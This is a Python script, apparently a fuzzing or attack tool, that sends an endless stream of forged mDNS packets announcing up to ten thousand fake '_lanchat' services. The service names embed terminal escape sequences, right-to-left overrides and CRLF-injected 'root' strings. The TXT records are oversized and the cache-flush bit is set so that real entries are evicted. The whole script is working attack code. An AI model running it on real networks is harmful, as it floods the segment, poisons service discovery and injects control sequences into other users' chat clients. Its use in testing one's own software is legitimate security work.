"""Announces what nobody should, from this address: ten thousand names, escapes, texts of 8 KiB; for ever."""

import itertools
import socket
import struct
import sys

address = sys.argv[1]
TYPE = b"\x08_lanchat\x04_tcp\x05local\x00"
EVIL = (
    b"\x1b]0;owned\x07",
    b"\x1b[2J\x1b[31m",
    b"\x9b31m",
    "\u202eevil\u2066".encode(),
    b"\r\nroot",
    b"\xff\xfe",
    b"guest ",
)


def record(name: bytes, kind: int, content: bytes) -> bytes:
    """Its class with the bit that says to forget others."""
    return name + struct.pack(">HHIH", kind, 0x8001 if kind != 12 else 1, 4_500, len(content)) + content


def announced(number: int) -> bytes:
    label = (EVIL[number % len(EVIL)] + str(number).encode())[:63]
    instance = bytes([len(label)]) + label + TYPE
    host = b"\x04evil\x05local\x00"
    pairs = [
        b"name=" + label,
        b"here=" + b"9" * 200,
        b"key=\x1b[5m",
        *[b"x%d=" % n + b"A" * 240 for n in range(30)],
    ]
    if number % 50:
        pairs = pairs[:3]
    return b"".join(
        (
            record(TYPE, 12, instance),
            record(instance, 33, struct.pack(">HHH", 0, 0, 8_000) + host),
            record(instance, 16, b"".join(bytes([len(pair)]) + pair for pair in pairs)),
            record(host, 1, socket.inet_aton(address)),
        )
    )


with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
    sending.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sending.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sending.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    sending.bind(("", 5353))
    for number in itertools.count():
        packet = struct.pack(">HHHHHH", 0, 0x8400, 0, 4, 0, 0) + announced(number % 10_000)
        sending.sendto(packet, ("224.0.0.251", 5353))
